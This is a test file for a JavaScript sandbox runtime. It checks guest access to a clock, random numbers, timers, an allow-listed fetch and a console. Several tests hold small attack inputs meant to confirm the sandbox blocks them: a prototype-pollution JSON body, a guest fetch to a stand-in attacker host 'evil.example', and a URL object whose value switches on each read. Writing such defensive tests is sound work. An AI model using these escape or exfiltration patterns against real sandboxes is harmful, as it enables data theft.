import { describe, expect, test } from "vitest";
import "../../src/index.js";
import { allowListedFetch, clock, consoleTo, random, timers } from "../../src/powers/index.js";
import { Cell, CellTerminated, definePolicy, type CellEvent, type CellOptions } from "../../src/runtime/index.js";

/** Powers as guests meet them. What each does by itself is tested beside this file. */
const cellWith = (globals: Record<string, unknown>, options: CellOptions = {}): Cell => new Cell({ globals, ...options });

describe("clock", () => {
  test("answers Date in all its forms, and nothing else tells the time", () => {
    const cell = cellWith({ Date: clock({ fixedAt: 86_400_000 }) });
    expect(cell.evaluate("[Date.now(), new Date().getTime(), Date().slice(0, 15)]")).toEqual([86_400_000, 86_400_000, "Fri Jan 02 1970"]);
    expect(() => cellWith({}).evaluate("Date.now()")).toThrow("clock");
  });
});

describe("random", () => {
  test("answers Math.random, the same in each cell of a seed", () => {
    const [a, b] = [cellWith({ Math: random({ seed: 3 }) }), cellWith({ Math: random({ seed: 3 }) })];
    expect(a.evaluate("[Math.random(), Math.random()]")).toEqual(b.evaluate("[Math.random(), Math.random()]"));
    expect(() => cellWith({}).evaluate("Math.random()")).toThrow("random");
  });
});

describe("timers", () => {
  test("call guests back, and idle waits for them", async () => {
    const cell = cellWith({ ...timers() });
    cell.execute(
      "var seen = []; setTimeout((...args) => seen.push(args), 5, 1, { a: 1 }); const n = setInterval(() => { seen.push('i'); clearInterval(n); }, 1);",
    );
    await cell.idle();
    expect(cell.evaluate("seen")).toEqual(["i", [1, { a: 1 }]]);
  });

  test("keep the identity of a callback's arguments", async () => {
    const cell = cellWith({ ...timers() });
    cell.execute(
      "class Own {} const own = new Own(), list = []; var same; setTimeout((a, b) => { same = a === own && b === list; }, 1, own, list);",
    );
    await cell.idle();
    expect(cell.evaluate("same")).toBe(true);
  });

  test("are gone with the cell, and revive none", async () => {
    const hits: unknown[] = [];
    const cell = cellWith({ ...timers(), hit: (x: unknown) => hits.push(x) });
    cell.execute("setTimeout(() => hit('late'), 5); setInterval(() => hit('again'), 5);");
    cell.dispose();
    await new Promise((done) => setTimeout(done, 30));
    expect(hits).toEqual([]);

    const burning = cellWith({ ...timers(), hit: (x: unknown) => hits.push(x) }, { limits: { fuel: 100_000 } });
    burning.execute("setTimeout(() => hit('late'), 5); setTimeout(() => { for (;;); }, 1)");
    await new Promise((done) => setTimeout(done, 50));
    expect(burning.status).toBe("terminated");
    expect(hits).toEqual([]);
  });

  test("report what callbacks throw, as an event", async () => {
    const events: CellEvent[] = [];
    const cell = cellWith({ ...timers() }, { onEvent: (event) => void events.push(event) });
    cell.execute("setTimeout(() => { throw new Error('thrown'); }); setTimeout(async () => { throw new Error('rejected'); });");
    await cell.idle();
    await new Promise((done) => setTimeout(done, 5));
    expect(events.map((event) => ("error" in event ? (event.error as Error).message : event.type)).sort()).toEqual(["rejected", "thrown"]);
  });

  test("do not run text, nor call with a host's this", async () => {
    const cell = cellWith({ ...timers() });
    expect(() => cell.evaluate("setTimeout('x = 1', 0)")).toThrow("no function");
    cell.execute("var receiver = 0; setTimeout(function () { receiver = this; }, 0);");
    await cell.idle();
    expect(cell.evaluate("receiver")).toBeUndefined();
  });

  test("count against the cell's limit", () => {
    const cell = cellWith({ ...timers() }, { limits: { timers: 2 } });
    expect(() => cell.evaluate("for (let i = 0; i < 3; i++) setTimeout(() => 0, 1000)")).toThrow("at most 2 timers");
    cell.dispose();
  });
});

describe("allowListedFetch", () => {
  test("answers with data and functions of the guest's own realm", async () => {
    const fetch = allowListedFetch({
      origins: ["https://api.example.com"],
      fetch: () => Promise.resolve(new Response('{"a":[1],"__proto__":{"polluted":1}}', { headers: { "x-a": "b" } })),
    });
    const cell = cellWith({ fetch });
    const result = await cell.load(`
      const response = await fetch("https://api.example.com/");
      const json = await response.json();
      export const out = {
        status: response.status, header: response.headers["x-a"], a: json.a, own: Object.keys(json), polluted: ({}).polluted, inherited: json.polluted,
        ours: [response instanceof Object, json.a instanceof Array, await response.bytes() instanceof Uint8Array, fetch instanceof Object, fetch("https://api.example.com/") instanceof Promise],
      };`);
    expect(result).toMatchObject({
      out: {
        status: 200,
        header: "b",
        a: [1],
        own: ["a", "__proto__"],
        polluted: undefined,
        inherited: undefined,
        ours: [true, true, true, true, true],
      },
    });
  });

  test("refuses by rejection, with an error that the guest may read", async () => {
    const cell = cellWith({ fetch: allowListedFetch({ origins: [] }) }, { policy: definePolicy({ extends: "compat" }) });
    const out = await cell.load(`
      export let seen;
      try { await fetch("https://evil.example/?" + "x"); } catch (e) { seen = [e.name, e.code, e.message, e instanceof Error]; }`);
    expect(out).toMatchObject({ seen: ["FetchError", "origin-refused", "this origin is not granted: https://evil.example", true] });
  });

  test("reads an address once: an object that changes its mind is no address", async () => {
    const cell = cellWith({
      fetch: allowListedFetch({ origins: ["https://api.example.com"], fetch: (url) => Promise.reject(new Error(url)) }),
    });
    const out = await cell.load(`
      let n = 0;
      export let seen;
      const shifty = { toString: () => n++ ? "https://evil.example" : "https://api.example.com" };
      try { await fetch(shifty); } catch (e) { seen = [e.code, n]; }`);
    expect(out).toMatchObject({ seen: ["bad-url", 0] });
  });
});

describe("consoleTo", () => {
  test("writes to the cell's own stdio, wherever that leads at the time, and counts", () => {
    const [first, second]: [string[], string[]] = [[], []];
    const to = (lines: string[]) => ({ stdout: { write: (text: string) => lines.push(text) } });
    const cell = cellWith({ console: consoleTo() }, { stdio: to(first), limits: { output: 100 } });
    cell.execute("console.log('a', { b: 1 })");
    cell.withStdio(to(second)).execute("console.log('c')");
    expect([first, second]).toEqual([["a { b: 1 }\n"], ["c\n"]]);
    expect(() => cell.execute("for (;;) console.log('again');")).toThrow(CellTerminated);
  });
});
